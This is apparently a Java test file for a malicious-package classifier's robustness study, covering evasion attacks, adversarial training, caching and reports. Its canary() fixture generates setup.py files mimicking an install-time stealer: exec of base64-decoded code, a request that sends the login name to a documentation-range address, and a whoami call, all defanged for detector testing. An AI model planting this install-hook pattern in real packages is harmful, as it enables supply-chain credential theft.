package dev.fang.robustness.experiment;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.fang.archive.ArchiveLimits;
import dev.fang.featurize.features.Family;
import dev.fang.featurize.features.Feature;
import dev.fang.featurize.features.FeatureCatalogue;
import dev.fang.featurize.features.PackageContents;
import dev.fang.featurize.features.PackageFeaturizer;
import dev.fang.featurize.features.SourceFile;
import dev.fang.robustness.GreedyAttack;
import dev.fang.robustness.PackageFiles;
import dev.fang.robustness.experiment.StudyResult.Attacked;
import dev.fang.robustness.experiment.StudyResult.FamilyDrop;
import dev.fang.robustness.experiment.StudyResult.FoldTraining;
import dev.fang.robustness.experiment.StudyResult.ModelResult;
import dev.fang.robustness.experiment.StudyResult.Point;
import dev.fang.training.dataset.Dataset;
import dev.fang.training.dataset.DatasetRow;
import dev.fang.training.dataset.PackageSource;
import dev.fang.training.model.HyperParams;
import dev.fang.training.evaluation.SplitEvaluation;
import dev.fang.training.model.Trainer;
import dev.fang.training.model.TrainingResult;
import dev.fang.training.model.TrainingConfig;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The whole protocol on a tiny corpus: harmless canary-style packages that look malicious (base64 + exec of a print, a
 * request to a documentation-range address; read and featurized, never run) against small benign packages, including
 * the demo's and the robustness fixtures'. Three folds and one hyper-parameter combination keep it to seconds.
 */
class RobustnessStudyTest {
    private static final Path ROOT = Path.of("..").toAbsolutePath().normalize();
    private static final TrainingConfig TRAINING = TrainingConfig.defaults()
            .withGrid(List.of(new HyperParams(7, 0.1, 3, 0.9))).withFolds(3).withRounds(60, 10);
    private static final StudyConfig CONFIG = new StudyConfig(5, 2, 4, List.of(50), 2, 0.5, 2);

    @TempDir
    static Path cacheDir;

    private static Dataset dataset;
    private static Map<String, PackageSource.Loader> packages;
    private static FeatureSpace space;
    private static StudyResult result;

    @BeforeAll
    static void runStudy() throws Exception {
        PackageFeaturizer featurizer = new PackageFeaturizer();
        Map<String, PackageContents> corpus = new LinkedHashMap<>();
        List<DatasetRow> rows = new ArrayList<>();
        for (int group = 0; group < 12; group++) {
            for (int variant = 0; variant < 2; variant++) {
                String id = "mal:canary-" + group + "-" + variant;
                corpus.put(id, canary(group, variant));
                rows.add(new DatasetRow(id, 1, "mal:" + group, "malregistry", "malicious", "", "sha-" + id, 0));
            }
        }
        for (int group = 0; group < 15; group++) {
            for (int variant = 0; variant < 2; variant++) {
                String id = "deb:helpers-" + group + "-" + variant;
                corpus.put(id, helpers(group, variant));
                rows.add(new DatasetRow(id, 0, "deb:" + group, "debian-binary", "", "", "sha-" + id, 0));
            }
        }
        for (String fixture : List.of("app/src/main/resources/demo/packages/tinyutils", "app/src/main/resources/demo/packages/hello-wheel",
                "robustness/src/test/resources/benign/package")) {
            String id = "src:" + Path.of(fixture).getFileName();
            corpus.put(id, PackageFiles.read(ROOT.resolve(fixture), ArchiveLimits.defaults()).contents());
            rows.add(new DatasetRow(id, 0, "deb:" + id, "debian-source", "", "", "sha-" + id, 0));
        }
        List<double[]> vectors = corpus.values().stream().map(pkg -> featurizer.featurize(pkg).values()).toList();
        dataset = Dataset.fromRows(FeatureCatalogue.VERSION, FeatureCatalogue.names(), rows, vectors);
        packages = new HashMap<>();
        corpus.forEach((id, pkg) -> packages.put(id, () -> pkg));
        Set<String> ignored = FeatureCatalogue.family(Family.SHAPE).stream().map(Feature::name).collect(Collectors.toSet());
        space = new FeatureSpace("default", dataset, ignored, pkg -> featurizer.featurize(pkg).values());
        result = study().run(List.of(space));
    }

    private static RobustnessStudy study() {
        return new RobustnessStudy(TRAINING, CONFIG, packages, cacheDir, new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8));
    }

    @Test
    void shouldNeverUseTestFoldPackagesForAdversarialTraining() {
        int[] foldOfRow = new Trainer(TRAINING).outerFolds(dataset);
        Map<String, Integer> foldOfId = new HashMap<>();
        Map<String, Integer> labelOfId = new HashMap<>();
        for (int row = 0; row < dataset.rows().size(); row++) {
            foldOfId.put(dataset.rows().get(row).id(), foldOfRow[row]);
            labelOfId.put(dataset.rows().get(row).id(), dataset.rows().get(row).label());
        }
        ModelResult adversarial = result.model("default/at50");
        assertThat(adversarial.training()).hasSize(TRAINING.folds());
        for (FoldTraining fold : adversarial.training()) {
            assertThat(fold.adversarialIds()).as("fold %d", fold.fold()).isNotEmpty()
                    .allSatisfy(id -> assertThat(foldOfId.get(id)).isNotEqualTo(fold.fold()))
                    .allSatisfy(id -> assertThat(labelOfId.get(id)).isEqualTo(1));
            assertThat(fold.obfuscatedBenign()).as("fold %d", fold.fold()).hasSameSizeAs(fold.adversarialIds())
                    .allSatisfy(id -> assertThat(foldOfId.get(id)).isNotEqualTo(fold.fold()))
                    .allSatisfy(id -> assertThat(labelOfId.get(id)).isZero());
        }
        for (ModelResult model : result.models()) {
            assertThat(model.attacks()).isNotEmpty().allSatisfy(attack -> assertThat(foldOfId.get(attack.id())).isEqualTo(attack.fold()));
            assertThat(model.obfuscated()).isNotEmpty().allSatisfy(benign -> assertThat(foldOfId.get(benign.id())).isEqualTo(benign.fold()));
        }
        assertThat(result.model("default/base").training()).allSatisfy(fold -> assertThat(fold.adversarialIds()).isEmpty());
    }

    @Test
    void shouldNeverRaiseAScoreByAttacking() {
        List<Attacked> all = result.models().stream().flatMap(model -> model.attacks().stream()).toList();
        assertThat(all).hasSize(2 * CONFIG.testSample() * TRAINING.folds());
        assertThat(all).allSatisfy(attack -> assertThat(attack.attackedScore()).as(attack.id()).isLessThanOrEqualTo(attack.originalScore()));
        assertThat(all).anySatisfy(attack -> assertThat(attack.attackedScore()).isLessThan(attack.originalScore()));
        for (ModelResult model : result.models()) {
            for (Point point : model.points()) {
                assertThat(point.attackedTpr()).as(model.name()).isLessThanOrEqualTo(point.sampleCleanTpr());
            }
        }
    }

    @Test
    void shouldWriteTheNumbersItComputedIntoTheReport(@TempDir Path out) throws Exception {
        RobustnessReport.Run run = new RobustnessReport.Run("bin/fang robustness --sample 2", "test machine", "synthetic", "3 folds");
        Path markdown = out.resolve("robustness.md");
        Path json = out.resolve("robustness/results.json");
        RobustnessReport.writeJson(result, run, json);
        RobustnessReport.writeMarkdown(result, run, markdown);

        String md = Files.readString(markdown);
        JsonNode models = new ObjectMapper().readTree(json.toFile()).path("result").path("models");
        assertThat(models).hasSize(result.models().size());
        assertThat(md).contains("`bin/fang robustness --sample 2`", "test machine");
        for (int m = 0; m < result.models().size(); m++) {
            ModelResult model = result.models().get(m);
            Point loose = model.at(0.01);
            String row = md.lines().filter(line -> line.startsWith("| " + model.name() + " | ")).findFirst().orElseThrow();
            assertThat(row).contains(pct(loose.cleanTpr()), pct(loose.attackedTpr()), pct(loose.obfuscatedBenignFlagged()),
                    pct(model.at(0.001).attackedTpr()));
            assertThat(md).contains("| TPR at 1% FPR under attack ≥ 95% (seed paper with AT: 86.81%) | " + model.name() + " | "
                    + pct(loose.attackedTpr()) + " | " + (loose.attackedTpr() >= 0.95 ? "met" : "not met") + " |");
            JsonNode point = models.get(m).path("points").get(1);
            assertThat(point.path("targetFpr").asDouble()).isEqualTo(0.01);
            assertThat(point.path("attackedTpr").asDouble()).isEqualTo(loose.attackedTpr());
            assertThat(models.get(m).path("attacks")).hasSize(model.attacks().size());
            for (FamilyDrop drop : model.scoreDrops()) {
                assertThat(md).contains(String.format(Locale.ROOT, " %.4f (%d/%d) |", drop.meanDrop(), drop.lowered(), drop.attacked()));
            }
        }
        assertThat(out.resolve("robustness/operating-points.png")).isNotEmptyFile();
        assertThat(out.resolve("robustness/histogram-default-at50.png")).isNotEmptyFile();
    }

    @Test
    void shouldResumeFromTheCacheWithTheSameNumbers() {
        StudyResult again = study().run(List.of(space));

        assertThat(again.attacksRun()).isZero();
        assertThat(again.attacksCached()).isEqualTo(result.attacksRun() + result.attacksCached());
        for (ModelResult model : result.models()) {
            assertThat(again.model(model.name()).points()).isEqualTo(model.points());
            assertThat(again.model(model.name()).attacks()).isEqualTo(model.attacks());
        }
    }

    @Test
    void shouldGiveTheSameNumbersOnOneThreadWithoutTheCache() {
        StudyConfig oneThread = new StudyConfig(CONFIG.seed(), CONFIG.testSample(), CONFIG.atSample(), CONFIG.atPercents(),
                CONFIG.benignSample(), CONFIG.obfuscationProbability(), 1);
        StudyResult again = new RobustnessStudy(TRAINING, oneThread, packages, null,
                new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8)).run(List.of(space));

        assertThat(again.attacksCached()).isZero();
        for (ModelResult model : result.models()) {
            ModelResult other = again.model(model.name());
            assertThat(other.points()).isEqualTo(model.points());
            assertThat(other.training()).isEqualTo(model.training());
            assertThat(other.attacks()).extracting(Attacked::id, Attacked::originalScore, Attacked::attackedScore)
                    .isEqualTo(model.attacks().stream().map(a -> org.assertj.core.groups.Tuple.tuple(a.id(), a.originalScore(), a.attackedScore())).toList());
        }
    }

    @Test
    void shouldTrainAdversariallyAsTheStudyDoesForFangTrain() {
        AdversarialTraining adversarial = new AdversarialTraining(space, packages, cacheDir, CONFIG.seed(), CONFIG.atSample(), 50,
                CONFIG.obfuscationProbability(), 2, new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8));
        TrainingResult trained = new Trainer(TRAINING).withAugmentation(adversarial).train(space.learnable());

        // The same samples, attacks and rows as the study's AT 50% fold models, so the same out-of-fold scores.
        SplitEvaluation study = result.model("default/at50").clean();
        double[] malicious = IntStream.range(0, dataset.rows().size()).filter(row -> dataset.rows().get(row).label() == 1)
                .mapToDouble(row -> trained.outOfFold().scores()[row]).sorted().toArray();
        assertThat(malicious).containsExactly(Arrays.stream(study.maliciousScores()).sorted().toArray());
        assertThat(trained.info().augmentation().finalRows()).isEqualTo(2 * AdversarialExamples.adversarialCount(50, CONFIG.atSample()));
        assertThat(trained.info().augmentation().description()).isEqualTo(adversarial.description()).contains("50%");
        assertThat(adversarial.skipped()).isEmpty();
    }

    @Test
    void shouldCreditEachKeptMoveToItsFamily() {
        List<GreedyAttack.Step> steps = List.of(
                new GreedyAttack.Step("transformation", "strings", 0.7, true, 0.7),
                new GreedyAttack.Step("transformation", "api", 0.95, false, 0.7),
                new GreedyAttack.Step("padding round 1", "urls-in-setup.py", 0.5, true, 0.5),
                new GreedyAttack.Step("padding round 2", "urls-new-file", 0.4, true, 0.4));
        List<FamilyDrop> drops = RobustnessStudy.scoreDrops(List.of(new AdversarialExamples.AttackRun(0.9, 0.4, steps, new double[0], 1)));

        assertThat(drops).extracting(FamilyDrop::family).containsExactly("strings", "api", "padding:urls");
        assertThat(drops.get(0).meanDrop()).isCloseTo(0.2, org.assertj.core.data.Offset.offset(1e-12));
        assertThat(drops.get(1).meanDrop()).isZero();
        assertThat(drops.get(1).lowered()).isZero();
        assertThat(drops.get(2).meanDrop()).isCloseTo(0.3, org.assertj.core.data.Offset.offset(1e-12));
        assertThat(drops.get(2).lowered()).isEqualTo(1);
    }

    private static String pct(double rate) {
        return String.format(Locale.ROOT, "%.2f%%", 100 * rate);
    }

    /** Looks like an install-time stealer; the encoded payload is a print, the address is in a documentation range. */
    private static PackageContents canary(int group, int variant) {
        String payload = Base64.getEncoder().encodeToString(("print('fang canary " + group + "')").getBytes(StandardCharsets.UTF_8));
        String setup = "import base64\nimport os\nimport urllib.request\nfrom setuptools import setup\n\n"
                + "exec(base64.b64decode(\"" + payload + "\"))\n"
                + "urllib.request.urlopen(\"http://198.51.100." + (group + 1) + "/c?h=\" + os.getlogin() + \"&v=" + variant + "\")\n"
                + "setup(name=\"canary-" + group + "\", version=\"0.0." + variant + "\", packages=[\"canary" + group + "\"])\n";
        String init = variant == 0 ? "\"\"\"Nothing here.\"\"\"\n"
                : "import subprocess\n\ndef _go():\n    return subprocess.check_output([\"whoami\"])\n";
        return pkg("canary-" + group, "setup.py", setup, "canary" + group + "/__init__.py", init);
    }

    /** An ordinary helper library. */
    private static PackageContents helpers(int group, int variant) {
        String setup = "from setuptools import setup\n\nsetup(name=\"helpers-" + group + "\", version=\"1." + variant
                + "\", packages=[\"helpers" + group + "\"])\n";
        String init = "\"\"\"Small text and number helpers.\"\"\"\nimport json\nimport math\n\n\n"
                + "def slugify(text):\n    return \"-\".join(part.lower() for part in text.split())\n\n\n"
                + "def mean(values):\n    return sum(values) / len(values) if values else 0.0\n\n\n"
                + "def spread" + group + "(values):\n    m = mean(values)\n    return math.sqrt(sum((v - m) ** 2 for v in values))\n\n\n"
                + "def dump(record):\n    return json.dumps(record, sort_keys=" + (variant == 0 ? "True" : "False") + ")\n";
        return pkg("helpers-" + group, "setup.py", setup, "helpers" + group + "/__init__.py", init);
    }

    private static PackageContents pkg(String name, String... pathsAndTexts) {
        List<SourceFile> files = new ArrayList<>();
        for (int i = 0; i < pathsAndTexts.length; i += 2) {
            files.add(new SourceFile(pathsAndTexts[i], pathsAndTexts[i + 1].getBytes(StandardCharsets.UTF_8)));
        }
        return new PackageContents(name, "1.0", files.stream().map(SourceFile::path).toList(), files);
    }
}
